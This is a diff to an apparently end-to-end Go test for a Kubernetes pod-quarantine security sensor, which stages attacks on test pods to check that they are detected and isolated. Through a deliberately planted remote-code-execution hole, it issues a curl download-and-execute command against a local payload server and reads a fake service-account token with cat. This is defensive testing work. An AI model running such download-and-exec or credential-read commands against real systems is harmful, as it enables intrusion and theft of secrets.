@@ -170,20 +170,22 @@ func TestSensorEndToEnd(t *testing.T) {
 		attempt(blogBase + "/cgi-bin/sh.cgi")
 	})
 
-	// (b) Download and exec through the shop's remote-code-execution hole.
-	payloads := k.payloadServer(t)
-	dl := "/tmp/bh-e2e-payload-" + randHex(4)
-	t.Cleanup(func() { _ = os.Remove(dl) })
-	s.attack(shop[0].Name, "download and exec", []string{"curl", "bh-e2e-payload"}, func() {
-		rce(servers[0].base, fmt.Sprintf("curl -fsS -o %s %s/payload && chmod +x %s && %s", dl, payloads, dl, dl), false)
-	})
-
-	// (d) Reading a credential file.
+	// (d) Reading a credential file, through the shop's remote-code-execution hole.
 	secret := filepath.Join(k.dir, "serviceaccount", "token")
 	_ = os.MkdirAll(filepath.Dir(secret), 0o755)
 	_ = os.WriteFile(secret, []byte("e2e-not-a-real-token"), 0o644)
 	s.attack(shop[0].Name, "credential file read", []string{"cat"}, func() {
 		rce(servers[0].base, "cat "+secret, false)
+	})
+
+	// (b) Download and exec, through the same hole of the same pod after
+	// its release: a released pod is watched as before.
+	payloads := k.payloadServer(t)
+	dl := "/tmp/bh-e2e-payload-" + randHex(4)
+	t.Cleanup(func() { _ = os.Remove(dl) })
+	_, payloadPort, _ := net.SplitHostPort(strings.TrimPrefix(payloads, "http://"))
+	s.attack(shop[0].Name, "download and exec", []string{"curl", "bh-e2e-payload", ":TCP/" + payloadPort}, func() {
+		rce(servers[0].base, fmt.Sprintf("curl -fsS -o %s %s/payload && chmod +x %s && %s", dl, payloads, dl, dl), false)
 	})
 
 	// One baseline per workload, holding what both nodes learned: each shop
@@ -317,7 +319,13 @@ func (s *scenario) attack(pod, what string, markers []string, act func()) {
 	t0 := time.Now()
 	logf("attack on %s: %s", pod, what)
 	act()
-	q := s.waitContained(pod)
+	q, err := s.contained(pod)
+	if err != nil {
+		// The scenario goes on: the other attacks and the kernel checks
+		// still say what works.
+		s.t.Errorf("attack %q on %s: %v", what, pod, err)
+		return
+	}
 	logf("  %s contained %s after the attack: %s", pod, time.Since(t0).Round(10*time.Millisecond), reasonText(q))
 	s.requireNamed(q, what, markers)
 	s.release(q)
@@ -368,8 +376,17 @@ func (s *scenario) activeQuarantine(ctx context.Context, pod string) (*securityv
 
 func (s *scenario) waitContained(pod string) *securityv1alpha1.Quarantine {
 	s.t.Helper()
+	q, err := s.contained(pod)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	return q
+}
+
+// contained waits for pod's Quarantine to be Contained and the pod isolated.
+func (s *scenario) contained(pod string) (*securityv1alpha1.Quarantine, error) {
 	var q *securityv1alpha1.Quarantine
-	s.eventually(60*time.Second, "pod "+pod+" contained", func(ctx context.Context) (err error) {
+	err := poll(env.ctx, 30*time.Second, "pod "+pod+" contained", func(ctx context.Context) (err error) {
 		if q, err = s.activeQuarantine(ctx, pod); err != nil {
 			return err
 		}
@@ -378,7 +395,7 @@ func (s *scenario) waitContained(pod string) *securityv1alpha1.Quarantine {
 		}
 		return s.checkIsolated(ctx, pod, q.Name)
 	})
-	return q
+	return q, err
 }
 
 // release releases q as the admin, recording the admin as the actor.
@@ -527,11 +544,8 @@ wait:
 	}
 	for _, c := range []*counter{hold, siblingConn, udp} {
 		if err := flowing(c, sibling.Name, 5*time.Second); err != nil {
-			s.t.Errorf("sibling pod %s's traffic touched: %v", sibling.Name, err)
+			s.t.Fatalf("sibling pod %s's traffic touched: %v", sibling.Name, err)
 		}
-	}
-	if s.t.Failed() {
-		s.t.FailNow()
 	}
 	logf("  ✓ sibling pod %s's held connection, new connections and UDP flow", sibling.Name)
 	s.requireEnforcementStatus(q)
